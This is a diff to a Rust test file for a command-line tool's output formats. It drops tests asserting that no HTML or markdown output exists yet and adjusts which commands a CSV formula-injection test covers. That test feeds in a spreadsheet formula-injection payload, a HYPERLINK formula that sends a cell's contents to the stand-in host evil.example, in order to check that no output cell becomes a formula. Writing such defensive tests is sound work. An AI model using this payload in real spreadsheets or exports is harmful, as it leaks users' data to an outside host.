@@ -3,15 +3,10 @@
 
 use crate::judge;
 use crate::positions;
-use crate::program::{COMMANDS, run, surroundings};
+use crate::program::COMMANDS;
 use crate::rows::{ask, is_seen_alike, page, saying};
+use crate::twin::has_rows;
 use serde_json::Value;
-
-/// There is no such form yet. Whoever makes one finds here what it must withstand.
-fn is_no_form(form: &str) {
-    let run = run(&["show", "-o", form], &surroundings(false), b"{\"id\":1}");
-    assert_eq!((run.status, &*run.stdout), (2, &b""[..]), "now {form} needs a test of its own");
-}
 
 /// Every cell of every command: none is a formula, and none but numbers may begin like one.
 #[test]
@@ -32,9 +27,7 @@ fn t15_no_cell_is_a_formula() {
         "=HYPERLINK(\"http://evil.example/?\"&A1)",
     ] {
         let ticket = saying(formula);
-        for command in
-            COMMANDS.into_iter().filter(|command| !["show", "explain"].contains(&command[0]))
-        {
+        for command in COMMANDS.into_iter().filter(|command| has_rows(command)) {
             let text = page(&[command, &["-o", "csv"]].concat(), &ticket);
             let mut reader = csv::Reader::from_reader(text.as_bytes());
             let mut cells = 0;
@@ -84,11 +77,6 @@ fn untabbed(bytes: &[u8]) -> Vec<u8> {
 }
 
 #[test]
-fn t16_there_are_no_web_pages_yet() {
-    is_no_form("html");
-}
-
-#[test]
 fn t16_markup_that_is_read_becomes_text() {
     let mut ticket = positions::ticket();
     ticket["transactions"][4]["text"] = "".into();
@@ -105,12 +93,6 @@ fn t16_markup_that_is_read_becomes_text() {
         assert!(page.contains(seen), "{markup}: {page}");
         assert!(!page.contains("alert"), "{page}");
     }
-}
-
-#[test]
-fn t17_there_is_no_markdown_yet() {
-    is_no_form("md");
-    is_no_form("markdown");
 }
 
 #[test]
